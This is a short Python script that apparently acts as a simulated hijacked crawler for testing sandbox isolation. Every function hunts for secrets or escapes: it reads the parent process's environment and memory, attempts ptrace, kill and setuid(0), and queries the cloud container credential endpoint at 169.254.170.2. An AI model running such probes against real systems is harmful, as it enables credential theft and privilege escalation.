"""A replacement for a crawler that a page has taken over: it searches for its worker's credentials everywhere.

It uses only the standard library, and writes its findings into its working folder.
"""

import ctypes
import errno
import json
import os
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

PTRACE_ATTACH = 16
FILES = ("environ", "mem", "maps", "auxv", "stack", "syscall")
URLS = (
    "http://169.254.170.2/v2/credentials/",
    "http://169.254.170.2/v2/credentials",
    "http://169.254.170.2/v2/metadata",
    "http://169.254.170.2/",
)


def attempt(action: Callable[[], object]) -> str:
    try:
        return f"done: {action()!r}"
    except urllib.error.HTTPError as error:
        error.close()
        return f"HTTP {error.code}"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))


def attach(pid: int) -> int:
    library = ctypes.CDLL(None, use_errno=True)
    if library.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
        return 0
    raise OSError(ctypes.get_errno(), "ptrace")


def ask(url: str) -> str:
    with urllib.request.urlopen(url, timeout=2) as answer:
        return str(answer.read())


def worker() -> dict[str, str]:
    pid = os.getppid()
    place = Path(f"/proc/{pid}")
    looked = {name: attempt((place / name).read_bytes) for name in FILES}
    looked["fd"] = attempt(lambda: list((place / "fd").iterdir()))
    for name in ("cwd", "root", "exe"):
        looked[name] = attempt(lambda name=name: (place / name).readlink())  # type: ignore[misc]
    looked["ptrace"] = attempt(lambda: attach(pid))
    looked["kill"] = attempt(lambda: os.kill(pid, 9))
    return looked


def main() -> None:
    found = {
        "environment": dict(os.environ),
        "uid": os.getresuid(),
        "groups": os.getgroups(),
        "worker": worker(),
        "command": attempt(Path(f"/proc/{os.getppid()}/cmdline").read_bytes),
        "root": attempt(lambda: os.setuid(0)),
        "held": attempt((Path.cwd().parent.parent / "held").read_text),
        "metadata": {url: attempt(lambda url=url: ask(url)) for url in URLS},  # type: ignore[misc]
    }
    Path("found.json").write_text(json.dumps(found, default=str))


main()
